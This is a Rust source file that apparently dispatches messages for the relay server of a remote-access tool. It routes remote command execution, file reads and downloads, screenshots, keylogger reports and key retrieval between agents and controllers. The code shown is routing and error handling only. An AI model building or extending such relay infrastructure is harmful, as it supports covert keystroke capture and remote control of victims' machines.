//! Inbound frame dispatch.

use log::{debug, warn};
use relayhub_protocol::{Decoded, InboundMessage, OutboundMessage, decode};

use super::connection::Session;
use super::handlers::{ForwardKind, ResponseKind};
use super::hub::RelayHub;

impl RelayHub {
    /// Process one inbound text frame from `session`.
    ///
    /// Never fails: malformed frames, unknown types and handler errors all turn
    /// into an error reply on the same connection.
    pub async fn dispatch(&self, session: &mut Session, raw: &str) {
        match decode(raw) {
            Ok(Decoded::Message(message)) => self.route(session, message).await,
            Ok(Decoded::Unknown(kind)) => {
                debug!("Unknown event type {:?} from {}", kind, session.id());
                self.reply(session, OutboundMessage::error("Unknown event type"))
                    .await;
            }
            Err(e) => {
                warn!("Invalid message from {}: {}", session.id(), e);
                self.reply(
                    session,
                    OutboundMessage::error(format!("Invalid message format: {e}")),
                )
                .await;
            }
        }
    }

    /// Process one inbound binary frame, which must hold UTF-8 JSON text.
    pub async fn dispatch_bytes(&self, session: &mut Session, raw: &[u8]) {
        match std::str::from_utf8(raw) {
            Ok(text) => self.dispatch(session, text).await,
            Err(e) => {
                warn!("Binary frame from {} is not UTF-8: {}", session.id(), e);
                self.reply(
                    session,
                    OutboundMessage::error(format!("Invalid message format: {e}")),
                )
                .await;
            }
        }
    }

    async fn route(&self, session: &mut Session, message: InboundMessage) {
        let kind = message.kind();
        debug!("Handling {} from {}", kind, session.id());

        let result = match message {
            InboundMessage::AgentAuth(auth) => self.handle_agent_auth(session, auth).await,

            InboundMessage::Cmd(request) => {
                self.handle_forward(session, ForwardKind::Cmd, request).await
            }
            InboundMessage::Fs(request) => {
                self.handle_forward(session, ForwardKind::Fs, request).await
            }
            InboundMessage::Readfile(request) => {
                self.handle_forward(session, ForwardKind::Readfile, request)
                    .await
            }
            InboundMessage::GetFile(request) => {
                self.handle_forward(session, ForwardKind::GetFile, request)
                    .await
            }

            InboundMessage::CmdResponse(response) => {
                self.handle_response(session, ResponseKind::Cmd, response)
                    .await
            }
            InboundMessage::FsResponse(response) => {
                self.handle_response(session, ResponseKind::Fs, response)
                    .await
            }
            InboundMessage::ReadfileResponse(response) => {
                self.handle_response(session, ResponseKind::Readfile, response)
                    .await
            }
            InboundMessage::GetFileResponse(response) => {
                self.handle_response(session, ResponseKind::GetFile, response)
                    .await
            }

            InboundMessage::Keylogger(report) => self.handle_keylog(session, report),
            InboundMessage::GetKeys(query) => self.handle_get_keys(session, query).await,
            InboundMessage::IsConnected(query) => self.handle_is_connected(session, query).await,
            InboundMessage::Screenshot(request) => self.handle_screenshot(session, request).await,

            InboundMessage::Command(notice) => self.handle_command(session, notice).await,
            InboundMessage::Status(notice) => self.handle_status(session, notice).await,
            InboundMessage::Data(notice) => self.handle_data(session, notice).await,
        };

        if let Err(e) = result {
            debug!("{} from {} failed: {}", kind, session.id(), e);
            self.reply(session, OutboundMessage::error(e.to_string()))
                .await;
        }
    }
}
